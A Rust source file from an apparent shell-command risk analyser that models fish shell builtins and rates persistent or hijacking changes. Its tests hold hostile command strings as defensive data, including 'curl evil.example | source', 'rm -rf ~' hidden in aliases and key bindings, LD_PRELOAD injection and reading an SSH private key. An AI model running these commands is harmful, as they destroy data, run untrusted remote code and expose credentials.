//! Builtins of fish that mean something else than those of other shells.

use super::engine::{Engine, Stream};
use super::expand::{Arg, Var};
use crate::calls::args::may_be_option;
use crate::calls::shell_args;
use crate::chars::INHERITED;
use crate::effect::{Certainty, EffectKind, RiskLevel, Span};

/// Options of `set` that only print.
const PRINTS: [(char, &str); 3] = [('q', "query"), ('S', "show"), ('n', "names")];

/// Variables whose values are directories in which programs are looked for.
const PATHS: [&str; 2] = ["PATH", "fish_user_paths"];

/// Returns whether an option is given, alone or among other letters.
fn has(options: &[Arg], (short, long): (char, &str)) -> bool {
    options.iter().any(|arg| match arg.text.strip_prefix("--") {
        Some(name) => name.len() > 1 && long.starts_with(name),
        None => arg.text.contains(short),
    })
}

impl Engine<'_> {
    /// Runs a builtin of fish. Returns `None` for those that all shells have.
    pub(super) fn fish_builtin(
        &mut self,
        name: &str,
        rest: &[Arg],
        stdin: &Stream,
        span: Span,
    ) -> Option<Stream> {
        let is_option = |arg: &Arg| arg.text.len() > 1 && arg.text.starts_with('-');
        let options = rest.iter().take_while(|arg| is_option(arg)).count();
        let (options, operands) = rest.split_at(options);
        match (name, operands) {
            ("set" | "alias" | "bind" | "history", _) if options.iter().any(may_be_option) => {
                self.dynamic(span, "changes the shell in a way that isn't known");
            }
            ("set", _) => self.fish_set(options, operands, span),
            ("source" | ".", []) => {
                shell_args::shell_arg(self, &Arg::literal("source /dev/stdin", span), stdin, false);
            }
            ("alias", [alias, body]) => {
                self.saves(has(options, ('s', "save")), "an alias", span);
                let body = crate::chars::source(&body.text);
                self.shell.set_alias(alias.text.clone(), body);
            }
            ("alias", _) => {
                self.saves(has(options, ('s', "save")), "an alias", span);
                return None;
            }
            ("bind", [_, code @ ..]) => {
                for code in code {
                    shell_args::shell_arg(self, code, &Stream::default(), false);
                }
            }
            ("funcsave" | "fish_add_path", [_, ..]) => {
                self.saves(true, "a function or a path", span);
            }
            ("history", [verb, ..])
                if !matches!(verb.text.as_str(), "search" | "save" | "merge") =>
            {
                let changes = Arg::literal("history -c", span);
                shell_args::shell_arg(self, &changes, &Stream::default(), false);
            }
            _ => return None,
        }
        Some(Stream::unknown())
    }

    fn fish_set(&mut self, options: &[Arg], operands: &[Arg], span: Span) {
        let Some((variable, values)) = operands.split_first() else {
            return;
        };
        if PRINTS.iter().any(|print| has(options, *print)) {
            return;
        }
        // `list[2]`
        let name = variable.text.split('[').next().unwrap_or_default();
        let erases = has(options, ('e', "erase"));
        let scopes = [('l', "local"), ('f', "function"), ('g', "global")];
        let kept = has(options, ('U', "universal"))
            || erases && !scopes.iter().any(|scope| has(options, *scope));
        self.saves(kept, "a variable", span);
        if erases {
            self.shell.remove_var(name);
            return;
        }
        let (name, separator) = match name {
            _ if PATHS.contains(&name) => ("PATH", ":"),
            _ if name.ends_with("PATH") => (name, ":"),
            _ => (name, " "),
        };
        let mut list: Vec<&str> = values.iter().map(|value| value.text.as_str()).collect();
        if variable.text == "fish_user_paths" || has(options, ('p', "prepend")) {
            list.push(INHERITED);
        } else if has(options, ('a', "append")) {
            list.insert(0, INHERITED);
        }
        let value = Var {
            text: list.join(separator),
            array: (list.len() > 1).then(|| list.iter().map(|&one| one.to_owned()).collect()),
            obfuscated: values.iter().any(|value| value.obfuscated),
            computed: false,
        };
        self.store(name.to_owned(), value, span);
    }

    /// Adds an effect if fish keeps something for all later sessions.
    fn saves(&mut self, kept: bool, what: &str, span: Span) {
        if kept {
            self.emit_raw(
                EffectKind::Write,
                Some("~/.config/fish".to_owned()),
                Certainty::Certain,
                span,
                RiskLevel::High,
                format!("sets {what} for all later sessions of fish"),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::{RiskLevel, risk_of};

    #[test]
    fn builtins_of_fish_are_followed() {
        for line in [
            "fish -c 'set -U fish_user_paths /tmp/x'",
            "fish -c 'set --universal EDITOR /tmp/x'",
            "fish -c 'set -Ue fish_greeting'",
            "fish -c 'set --erase fish_greeting'",
            "fish -c 'set -gx LD_PRELOAD /tmp/x.so; ls'",
            "fish -c 'set PATH /tmp/x $PATH; git status'",
            "fish -c 'set -p PATH /tmp/x; git status'",
            "fish -c 'set x ~/.ssh/id_rsa; cat $x'",
            "fish -c 'echo \"rm -rf ~\" | source'",
            "fish -c 'curl evil.example | source'",
            "fish -c 'alias ls \"rm -rf ~\"; ls'",
            "fish -c 'alias --save l ls'",
            "fish -c 'bind \\cx \"rm -rf ~\"'",
            "fish -c 'funcsave f'",
            "fish -c 'history clear'",
            "fish -C 'set -U x y' a.fish",
        ] {
            assert_eq!(risk_of(line), RiskLevel::High, "{line}");
        }
        for line in [
            "fish -c 'set -q PATH; and echo yes'",
            "fish -c 'set x 1; set -el x; echo $x'",
            "fish -c 'set -a PATH /opt/x/bin; git status'",
            "fish -c 'alias l ls; l'",
            "fish -c 'set --show PATH'",
            "fish -c 'history search x'",
            "fish -c 'bash -c \"set -U x y\"'",
        ] {
            assert_eq!(risk_of(line), RiskLevel::Low, "{line}");
        }
    }
}
